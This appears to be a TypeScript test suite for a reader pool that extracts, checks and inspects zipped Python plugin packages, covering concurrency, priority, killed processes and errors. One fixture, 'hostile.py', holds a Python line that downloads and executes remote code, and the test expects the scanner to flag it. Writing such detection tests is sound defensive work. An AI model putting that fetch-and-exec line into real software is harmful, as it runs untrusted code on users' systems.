import assert from 'node:assert/strict';
import { hash } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { suite, test } from 'node:test';
import { DEFAULT_LIMITS } from '@patchbay/inspect';
import { TooHeavyError } from '../../src/readers/package-reader.ts';
import { ReaderPool } from '../../src/readers/reader-pool.ts';
import { zip } from '../support/build.ts';
import { chanceFrom } from '../support/history/chance.ts';
import { killReader } from '../support/kill-reader.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { until } from '../support/until.ts';

suite('readers', () => {
  test('more packages than processes are all read, each with its own answer', async (t) => {
    const readers = new ReaderPool();
    t.after(() => readers.close());
    const folder = await temporaryFolder(t);
    const names = await Promise.all(
      Array.from({ length: readers.processesMax * 4 }, async (_, index) => {
        const path = join(folder, `${index}.zip`);
        const source = `class Node:\n    pass\n\n\nNODE_CLASS_MAPPINGS = {"Node ${index}": Node}\n`;
        await writeFile(path, await zip({ '__init__.py': source }));
        const { appNodes } = await readers.extract(path);
        return appNodes.map(({ app_node_name }) => app_node_name);
      }),
    );
    assert.deepEqual(
      names,
      names.map((_, index) => [`Node ${index}`]),
    );
  });

  test('a package whose publisher waits is inspected before those that are only to be read', async (t) => {
    const readers = new ReaderPool();
    t.after(() => readers.close());
    const path = join(await temporaryFolder(t), 'package.zip');
    await writeFile(path, await zip({ '__init__.py': '' }));
    const done: string[] = [];
    const reading = Array.from({ length: readers.processesMax * 2 }, () =>
      readers.extract(path).then(() => done.push('read')),
    );
    const published = { nodeId: 'node', version: '1.0.0' };
    const inspection = { path, limits: DEFAULT_LIMITS, published, looseVersions: false };
    const inspecting = readers.inspect(inspection).then(() => done.push('inspected'));
    await Promise.all([...reading, inspecting]);
    assert.ok(done.indexOf('inspected') <= readers.processesMax, done.join());
  });

  test('a package of large files is read to its end', async (t) => {
    const readers = new ReaderPool();
    t.after(() => readers.close());
    const path = join(await temporaryFolder(t), 'package.zip');
    const large = Array.from({ length: 40_000 }, (_, index) => `LARGE_${index} = ${index ** 3}\n`).join('');
    const hostile = `${large}import requests\nexec(requests.get("https://example.org").text)\n`;
    const bytes = await zip({ 'large.py': large, 'hostile.py': hostile, 'data.bin': large.repeat(4) });
    await writeFile(path, bytes);
    const verdict = await readers.check(path, hash('sha256', bytes));
    assert.equal(verdict?.outcome, 'found');
    assert.deepEqual(
      verdict.findings.filter(({ severity }) => severity === 'error').map(({ file, line }) => [file, line]),
      [['hostile.py', 40_002]],
    );
  });

  test(
    'a package is to blame for the second process that is killed while it is read, not for the first',
    { skip: process.platform !== 'linux' },
    async (t) => {
      const readers = new ReaderPool();
      t.after(() => readers.close());
      const path = join(await temporaryFolder(t), 'package.zip');
      await writeFile(path, await zip({ '__init__.py': '' }));
      const published = { nodeId: 'node', version: '1.0.0' };
      const inspect = () =>
        readers.inspect({ path, limits: DEFAULT_LIMITS, published, looseVersions: false });
      const kill = () => until(() => killReader(process.pid, chanceFrom(1)));
      const inspected = inspect();
      await kill();
      assert.equal(await inspected, undefined);

      const refused = assert.rejects(inspect(), TooHeavyError);
      await kill();
      await kill();
      await refused;
    },
  );

  test('a package for which what is left idle is too little is read all the same', async (t) => {
    // No process has begun after a millisecond.
    const readers = new ReaderPool(1, { spare: 1, low: 60_000 });
    t.after(() => readers.close());
    const path = join(await temporaryFolder(t), 'package.zip');
    const bytes = await zip({ '__init__.py': '' });
    await writeFile(path, bytes);
    assert.equal((await readers.check(path, hash('sha256', bytes)))?.outcome, 'passed');
  });

  test('a task that fails fails alone, with the code of its error', async (t) => {
    const readers = new ReaderPool();
    t.after(() => readers.close());
    const path = join(await temporaryFolder(t), 'package.zip');
    const bytes = await zip({ '__init__.py': '' });
    await assert.rejects(readers.check(path, hash('sha256', bytes)), {
      code: 'ENOENT',
      message: /no such file/,
    });
    await writeFile(path, bytes);
    assert.equal((await readers.check(path, hash('sha256', bytes)))?.outcome, 'passed');
    assert.equal(await readers.check(path, hash('sha256', 'another package')), undefined);
    const published = { nodeId: 'node', version: '1.0.0' };
    assert.equal(
      await readers.inspect({ path, limits: DEFAULT_LIMITS, published, looseVersions: false }),
      undefined,
    );
  });
});
